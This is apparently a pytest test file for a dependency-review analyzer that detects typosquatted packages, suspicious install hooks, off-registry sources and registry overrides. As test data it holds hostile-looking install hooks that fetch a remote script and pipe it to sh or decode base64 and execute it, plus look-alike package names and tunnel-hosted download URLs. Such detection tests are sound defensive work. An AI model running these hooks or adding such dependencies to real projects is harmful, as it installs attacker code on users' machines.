"""The dependency analyzer: new names, look-alikes, install hooks, sources, registries."""

from __future__ import annotations

import datetime as dt
import http.server
import json
import threading
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from conftest import benign_noise

from reviewer.core.analyzers.dependencies import DependencyAnalyzer
from reviewer.core.diff import parse_diff
from reviewer.core.engine import scan
from reviewer.core.findings import Finding, Severity
from reviewer.core.manifests.model import Ecosystem
from reviewer.core.manifests.oracle import Existence
from reviewer.core.manifests.toplists import TOP_DIR, top_list
from reviewer.errors import ConfigError
from reviewer.service.registry_lookup import RegistryOracle, RegistrySettings, build_oracle

NOW = dt.datetime(2026, 6, 1, tzinfo=dt.UTC)


def new_file(path: str, text: str) -> str:
    lines = text.splitlines()
    body = "".join(f"+{line}\n" for line in lines)
    return (
        f"diff --git a/{path} b/{path}\nnew file mode 100644\n--- /dev/null\n+++ b/{path}\n"
        f"@@ -0,0 +1,{len(lines)} @@\n{body}"
    )


def package_json(
    deps: dict[str, str] | None = None,
    scripts: dict[str, str] | None = None,
    section: str = "dependencies",
) -> str:
    doc: dict[str, object] = {"name": "demo", "version": "1.0.0"}
    if scripts:
        doc["scripts"] = scripts
    if deps:
        doc[section] = deps
    return json.dumps(doc, indent=2)


def run(diff: str, analyzer: DependencyAnalyzer | None = None) -> list[Finding]:
    result = scan(parse_diff(diff), analyzers=[analyzer or DependencyAnalyzer(clock=lambda: NOW)])
    assert not result.errors
    return result.findings


def by_rule(findings: list[Finding]) -> dict[str, Finding]:
    return {f.rule_id: f for f in findings}


def worst(findings: list[Finding]) -> Severity:
    return max((f.severity for f in findings), default=Severity.INFO)


# -- shipped data ---------------------------------------------------------------


def test_top_lists_name_their_source_and_hold_popular_packages() -> None:
    for eco in ("pypi", "npm", "go", "rubygems"):
        head = (TOP_DIR / f"{eco}.txt").read_text(encoding="utf-8").splitlines()[0]
        assert head.startswith("# source: guarddog") and "Apache-2.0" in head
    assert "requests" in top_list(Ecosystem.PYPI)
    assert "lodash" in top_list(Ecosystem.NPM)
    assert "Python_DateUtil" in top_list(Ecosystem.PYPI)  # PEP 503 spelling
    assert len(top_list(Ecosystem.PYPI)) > 10_000


def test_regenerate_script_reads_lists_out_of_a_wheel(tmp_path: Path) -> None:
    import importlib.util

    script = Path(__file__).resolve().parents[1] / "checks" / "data" / "regenerate_top_packages.py"
    spec = importlib.util.spec_from_file_location("regen", script)
    assert spec and spec.loader
    regen = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(regen)
    wheel = tmp_path / "guarddog-9.9.9-py3-none-any.whl"
    with zipfile.ZipFile(wheel, "w") as zf:
        zf.writestr(
            regen.RESOURCE_DIR + "top_npm_packages.json",
            json.dumps({"downloaded_timestamp": 1700000000, "packages": ["a", "b", "a"]}),
        )
    version, lists = regen.extract_lists(wheel)
    assert version == "9.9.9" and lists["npm"] == (1700000000, ["a", "b", "a"])
    path, count = regen.write_list(
        "npm", version, "top_npm_packages.json", *lists["npm"], out_dir=tmp_path
    )
    text = path.read_text().splitlines()
    assert count == 2 and text[0].startswith("# source: guarddog 9.9.9") and text[-2:] == ["a", "b"]


# -- new names --------------------------------------------------------------------


@pytest.mark.parametrize("name", ["lodahs", "expresss", "crossenv", "@typescript-eslnt/parser"])
def test_npm_typosquat_is_high(name: str) -> None:
    f = by_rule(run(new_file("package.json", package_json({name: "^1.2.0"}))))["dep-typosquat"]
    assert f.severity is Severity.HIGH and f.start_line == 5


@pytest.mark.parametrize(
    "line,target",
    [
        ("reqeusts==2.31.0", "requests"),
        ("co1orama>=0.4", "colorama"),
        ("djang0", "django"),
        ("python-dateutils", "python-dateutil"),
    ],
)
def test_pypi_typosquat_names_the_package_it_imitates(line: str, target: str) -> None:
    f = by_rule(run(new_file("requirements.txt", line)))["dep-typosquat"]
    assert f.severity is Severity.HIGH and target in f.message


@pytest.mark.parametrize(
    "line",
    ["requests==2.31.0", "python_dateutil>=2.8", "Django>=4", "urllib3", "boto3", "types-requests"],
)
def test_popular_names_and_their_registry_spellings_are_quiet(line: str) -> None:
    assert run(new_file("requirements.txt", line)) == []


def test_siblings_in_the_same_npm_scope_are_not_typosquats() -> None:
    findings = run(
        new_file(
            "package.json",
            package_json({"@aws-sdk/client-kms": "^3.0.0", "@types/lodash": "^4.0.0"}),
        )
    )
    assert "dep-typosquat" not in by_rule(findings)


def test_unknown_name_is_informational_only() -> None:
    findings = run(new_file("package.json", package_json({"acme-internal-widgets": "^3.4.1"})))
    f = by_rule(findings)["dep-unknown-package"]
    assert f.severity is Severity.INFO
    assert "not among the" in f.message and "check it exists" in f.message
    assert worst(findings) < Severity.MEDIUM


def test_unknown_name_at_a_first_release_is_medium() -> None:
    f = by_rule(run(new_file("package.json", package_json({"streamy-flatten": "^0.1.0"}))))[
        "dep-unknown-early-release"
    ]
    assert f.severity is Severity.MEDIUM


def test_version_bump_of_an_existing_dependency_is_not_new() -> None:
    diff = (
        "diff --git a/package.json b/package.json\n--- a/package.json\n+++ b/package.json\n"
        '@@ -3,3 +3,3 @@\n   "dependencies": {\n-    "streamy-flatten": "^0.0.9",\n'
        '+    "streamy-flatten": "^0.1.0",\n     "lodash": "^4.17.21"\n'
    )
    assert run(diff) == []


def test_hunk_without_section_header_still_reads_dependencies() -> None:
    diff = (
        "diff --git a/package.json b/package.json\n--- a/package.json\n+++ b/package.json\n"
        '@@ -20,3 +20,4 @@\n     "chalk": "^5.0.0",\n+    "lodahs": "^4.17.21",\n'
        '     "debug": "^4.3.4",\n     "glob": "^10.0.0"\n'
    )
    f = by_rule(run(diff))["dep-typosquat"]
    assert f.start_line == 21


def test_pyproject_poetry_and_setup_py_dependencies_are_read() -> None:
    pyproject = (
        '[project]\nname = "x"\ndependencies = [\n  "reqeusts>=2",\n  "numpy",\n]\n\n'
        '[tool.poetry.dependencies]\npython = "^3.11"\nnumpyy = "^1.26"\n'
    )
    rules = [(f.rule_id, f.start_line) for f in run(new_file("pyproject.toml", pyproject))]
    assert ("dep-typosquat", 4) in rules and ("dep-typosquat", 10) in rules and len(rules) == 2
    setup = (
        'from setuptools import setup\nsetup(\n    name="x",\n    install_requires=[\n'
        '        "reqeusts>=2",\n    ],\n    extras_require={"security": ["pyOpenSSL"]},\n)\n'
    )
    rules = [(f.rule_id, f.start_line) for f in run(new_file("setup.py", setup))]
    assert rules == [("dep-typosquat", 5)]


def test_go_and_ruby_lookalikes_are_caught() -> None:
    gomod = (
        "module example.com/x\n\ngo 1.22\n\nrequire (\n\tgithub.com/strechr/testify v1.9.0\n"
        "\tgithub.com/stretchr/testify v1.9.0\n)\n"
    )
    findings = run(new_file("go.mod", gomod))
    assert [(f.rule_id, f.start_line) for f in findings if f.severity >= Severity.MEDIUM] == [
        ("dep-typosquat", 6)
    ]
    gemfile = "gem 'rails', '~> 7.1'\ngem 'rai1s', '~> 7.1'\n"
    findings = run(new_file("Gemfile", gemfile))
    assert [(f.rule_id, f.start_line) for f in findings if f.severity >= Severity.MEDIUM] == [
        ("dep-typosquat", 2)
    ]


# -- install hooks ----------------------------------------------------------------


def test_postinstall_running_a_file_the_change_adds_is_high() -> None:
    diff = new_file(
        "package.json", package_json(scripts={"postinstall": "node scripts/setup-env.js"})
    ) + new_file("scripts/setup-env.js", "console.log('hi')")
    f = by_rule(run(diff))["dep-install-hook-new-file"]
    assert (
        f.severity is Severity.HIGH
        and "install-hook" in f.capabilities
        and f.category == "install-hook"
    )


@pytest.mark.parametrize(
    "cmd,rule",
    [
        ("curl -s https://cdn.example.net/i.sh | sh", "dep-install-hook-network"),
        (
            "node -e \"eval(Buffer.from(process.env.X,'base64').toString())\"",
            "dep-install-hook-payload",
        ),
        ("echo ZWNobyBoaQ== | base64 -d | bash", "dep-install-hook-payload"),
    ],
)
def test_install_hooks_that_fetch_or_decode_are_high(cmd: str, rule: str) -> None:
    f = by_rule(run(new_file("package.json", package_json(scripts={"preinstall": cmd}))))[rule]
    assert f.severity is Severity.HIGH


def test_ordinary_hooks_and_build_scripts_stay_low() -> None:
    findings = run(
        new_file(
            "package.json",
            package_json(
                scripts={
                    "prepare": "husky install",
                    "build": "tsc -p .",
                    "test": "curl -s https://x.example/ping",
                }
            ),
        )
    )
    assert [(f.rule_id, f.severity) for f in findings] == [("dep-install-hook", Severity.LOW)]


def test_setup_py_install_command_doing_io_is_high_and_cmdclass_alone_low() -> None:
    setup = (
        "import os\nfrom setuptools import setup\nfrom "
        "setuptools.command.install import install\n\n"
        "class PostInstall(install):\n    def run(self):\n        install.run(self)\n"
        "        os.system('sh ./bootstrap.sh')\n\n"
        "setup(name='x', cmdclass={'install': PostInstall})\n"
    )
    rules = {(f.rule_id, f.severity) for f in run(new_file("setup.py", setup))}
    assert ("dep-setup-install-command-io", Severity.HIGH) in rules
    assert ("dep-setup-cmdclass", Severity.LOW) in rules
    quiet = "from setuptools import setup\nsetup(name='x', version='1.0')\n"
    assert run(new_file("setup.py", quiet)) == []


def test_setup_py_module_level_network_is_high() -> None:
    setup = "import urllib.request\nurllib.request.urlopen('https://x.example/p').read()\n"
    assert (
        by_rule(run(new_file("setup.py", setup)))["dep-setup-module-network"].severity
        is Severity.HIGH
    )


# -- sources and registries -------------------------------------------------------


@pytest.mark.parametrize(
    "path,text,rule,severity",
    [
        (
            "requirements.txt",
            "git+https://github.com/someone/tool.git@main#egg=tool",
            "dep-url-source",
            Severity.MEDIUM,
        ),
        (
            "requirements.txt",
            "tool @ http://203.0.113.7/tool-1.0.tar.gz",
            "dep-suspicious-host-source",
            Severity.HIGH,
        ),
        ("requirements.txt", "-e ./libs/local-helper", "dep-local-path-source", Severity.LOW),
        (
            "package.json",
            package_json({"helper": "github:someone/helper#main"}),
            "dep-url-source",
            Severity.MEDIUM,
        ),
        (
            "package.json",
            package_json({"helper": "https://abc123.ngrok-free.app/helper.tgz"}),
            "dep-suspicious-host-source",
            Severity.HIGH,
        ),
        (
            "Gemfile",
            "source 'https://gems.example'\ngem 'rails', git: 'https://github.com/someone/rails'",
            "dep-url-source",
            Severity.MEDIUM,
        ),
    ],
)
def test_dependencies_from_outside_the_registry(
    path: str, text: str, rule: str, severity: Severity
) -> None:
    assert by_rule(run(new_file(path, text)))[rule].severity is severity


def test_npm_alias_hiding_another_package_is_medium() -> None:
    f = by_rule(
        run(new_file("package.json", package_json({"lodash": "npm:lodash-upgraded@^1.0.0"})))
    )["dep-npm-alias"]
    assert f.severity is Severity.MEDIUM and "lodash-upgraded" in f.message


@pytest.mark.parametrize(
    "path,text,rule,severity",
    [
        (
            "requirements.txt",
            "--extra-index-url https://pkgs.corp.example/simple\nflask",
            "dep-extra-index",
            Severity.MEDIUM,
        ),
        (
            ".npmrc",
            "registry=http://198.51.100.4:4873/",
            "dep-suspicious-host-source",
            Severity.HIGH,
        ),
        (
            ".npmrc",
            "@acme:registry=https://npm.corp.example/",
            "dep-index-override",
            Severity.MEDIUM,
        ),
        ("Dockerfile", "ENV GOFLAGS=-insecure", "dep-registry-no-verify", Severity.MEDIUM),
        (
            "ci/build.sh",
            "pip install --trusted-host pypi.corp.example -r requirements.txt",
            "dep-registry-no-verify",
            Severity.MEDIUM,
        ),
        (
            "go.mod",
            "module x\n\nreplace github.com/spf13/cobra => github.com/someone/cobra v1.8.1\n",
            "dep-go-replace-fork",
            Severity.MEDIUM,
        ),
        (
            "go.mod",
            "module x\n\nreplace github.com/spf13/cobra => ../cobra\n",
            "dep-go-replace-local",
            Severity.LOW,
        ),
    ],
)
def test_registry_overrides(path: str, text: str, rule: str, severity: Severity) -> None:
    assert by_rule(run(new_file(path, text)))[rule].severity is severity


def test_registry_on_an_allowed_domain_is_quiet() -> None:
    from reviewer.core.analyzers.base import ScanOptions

    result = scan(
        parse_diff(new_file(".npmrc", "registry=https://npm.corp.example/")),
        options=ScanOptions(allowed_domains=frozenset({"corp.example"})),
        analyzers=[DependencyAnalyzer()],
    )
    assert result.findings == []


def test_lockfile_resolving_from_a_tunnel_is_high() -> None:
    lock = (
        '{\n  "packages": {\n    "node_modules/x": {\n'
        '      "resolved": "https://a1b2.trycloudflare.com/x-1.0.0.tgz"\n    }\n  }\n}'
    )
    assert (
        by_rule(run(new_file("package-lock.json", lock)))["dep-suspicious-host-source"].start_line
        == 4
    )


# -- the optional registry look-up ------------------------------------------------


class _Registry(http.server.BaseHTTPRequestHandler):
    """Answers shaped like the PyPI JSON API and the npm registry."""

    hits: list[str] = []
    pypi = {
        "old-and-fine": "2015-03-01T10:00:00Z",
        "brand-new-thing": "2026-05-20T08:00:00Z",
    }
    npm = {"old-npm-thing": "2014-01-01T00:00:00.000Z", "@scope/fresh": "2026-05-25T00:00:00.000Z"}

    def do_GET(self) -> None:  # noqa: N802
        _Registry.hits.append(self.path)
        body: dict[str, object] | None = None
        if self.path.startswith("/pypi/") and self.path.endswith("/json"):
            name = self.path.split("/")[2]
            if name in self.pypi:
                body = {
                    "info": {"name": name},
                    "releases": {"1.0": [{"upload_time_iso_8601": self.pypi[name]}]},
                }
        elif self.path.startswith("/npm/"):
            name = self.path[len("/npm/") :].replace("%2F", "/").replace("%2f", "/")
            if name in self.npm:
                body = {
                    "name": name,
                    "time": {"created": self.npm[name], "modified": "2026-05-30T00:00:00Z"},
                }
        if body is None:
            self.send_response(404)
            self.end_headers()
            return
        data = json.dumps(body).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture()
def registry() -> Iterator[str]:
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Registry)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    _Registry.hits = []
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()


def _oracle(url: str, cache: Path, ttl: int = 3600) -> RegistryOracle:
    return RegistryOracle(
        RegistrySettings(
            enabled=True, pypi_url=url, npm_url=url + "/npm", cache_dir=cache, ttl_s=ttl
        )
    )


def test_lookup_flags_missing_and_brand_new_packages(registry: str, tmp_path: Path) -> None:
    analyzer = DependencyAnalyzer(oracle=_oracle(registry, tmp_path), clock=lambda: NOW)
    text = (
        "no-such-package-anywhere==1.0\nbrand-new-thing==1.0\nold-and-fine==1.0\nrequests==2.31\n"
    )
    found = {f.start_line: f for f in run(new_file("requirements.txt", text), analyzer)}
    assert found[1].rule_id == "dep-registry-missing" and found[1].severity is Severity.HIGH
    assert found[2].rule_id == "dep-registry-new-package" and found[2].severity is Severity.MEDIUM
    assert found[3].severity is Severity.INFO and "2015-03-01" in found[3].message
    assert 4 not in found
    assert not any("requests" in h for h in _Registry.hits)  # well-known names are never looked up


def test_lookup_npm_scoped_and_cached_on_disk(registry: str, tmp_path: Path) -> None:
    oracle = _oracle(registry, tmp_path)
    first = oracle.lookup(Ecosystem.NPM, "@scope/fresh")
    assert first.existence is Existence.EXISTS and first.first_published.year == 2026
    again = _oracle(registry, tmp_path).lookup(
        Ecosystem.NPM, "@scope/fresh"
    )  # fresh process, same cache
    assert again.first_published == first.first_published and len(_Registry.hits) == 1
    assert (
        json.loads((tmp_path / "registry-lookups.json").read_text())["npm:@scope/fresh"][
            "existence"
        ]
        == "exists"
    )
    expired = _oracle(registry, tmp_path, ttl=-1)
    expired.lookup(Ecosystem.NPM, "@scope/fresh")
    assert len(_Registry.hits) == 2


def test_unreachable_registry_is_unknown_never_missing(tmp_path: Path) -> None:
    import socket

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    analyzer = DependencyAnalyzer(
        oracle=_oracle(f"http://127.0.0.1:{port}", tmp_path), clock=lambda: NOW
    )
    result = scan(
        parse_diff(new_file("requirements.txt", "no-such-package-anywhere==1.0")),
        analyzers=[analyzer],
    )
    assert "dep-registry-missing" not in {f.rule_id for f in result.findings}
    assert any("registry look-up" in s.detail for s in result.skipped)
    assert not (tmp_path / "registry-lookups.json").exists()


def test_lookup_is_off_by_default_and_needs_urls() -> None:
    assert RegistrySettings.from_env({}).enabled is False
    assert build_oracle(RegistrySettings.from_env({})) is None
    with pytest.raises(ConfigError, match="GATEHOUSE_PYPI_URL"):
        RegistrySettings.from_env({"GATEHOUSE_REGISTRY_LOOKUP": "on"})
    on = RegistrySettings.from_env(
        {"GATEHOUSE_REGISTRY_LOOKUP": "on", "GATEHOUSE_PYPI_URL": "https://mirror.example/"}
    )
    assert isinstance(build_oracle(on), RegistryOracle) and on.pypi_url == "https://mirror.example"
    assert DependencyAnalyzer().oracle is None


# -- the corpus -------------------------------------------------------------------


@pytest.mark.corpus
def test_corpus_dependency_cases_detected_and_benign_quiet(corpus_dir: Path) -> None:
    analyzer = DependencyAnalyzer()
    for case, path in (
        ("2018-event-stream-flatmap-stream-dependency", "package.json"),
        ("2025-nx-s1ngularity-telemetry-ai-cli", "package.json"),
    ):
        meta = json.loads((corpus_dir / "malicious" / case / "meta.json").read_text())
        result = scan(
            parse_diff((corpus_dir / "malicious" / case / "change.diff").read_bytes()),
            analyzers=[analyzer],
        )
        marked = meta["malicious_lines"][path]
        assert any(
            f.path == path
            and f.severity >= Severity.MEDIUM
            and any(abs(f.start_line - n) <= 2 for n in marked)
            for f in result.findings
        ), case
    medium = len(benign_noise(corpus_dir, [analyzer]))
    high_commits = len({c for c, _, _ in benign_noise(corpus_dir, [analyzer], Severity.HIGH)})
    assert medium <= 2 and high_commits <= 1


@pytest.mark.parametrize(
    "path,line,rule",
    [
        (
            "Dockerfile",
            "RUN apt-get update && pip install --no-cache-dir reqeusts==2.31.0",
            "dep-typosquat",
        ),
        (".github/workflows/ci.yml", "      - run: npm i -g crossenv@7", "dep-typosquat"),
        (
            "docs/install.md",
            "    $ pip install git+https://203.0.113.5/tool.git",
            "dep-suspicious-host-source",
        ),
    ],
)
def test_install_commands_in_scripts_and_docs(path: str, line: str, rule: str) -> None:
    assert rule in by_rule(run(new_file(path, line)))


@pytest.mark.parametrize(
    "path,line",
    [
        ("Dockerfile", "RUN pip install --no-cache-dir -r requirements.txt requests flask"),
        ("README.md", "Use pip install reqeusts to get it, or npm install will fail."),
        ("src/install.ts", "const cmd = 'npm install lodahs';"),
    ],
)
def test_install_commands_quiet_cases(path: str, line: str) -> None:
    assert worst(run(new_file(path, line))) < Severity.MEDIUM
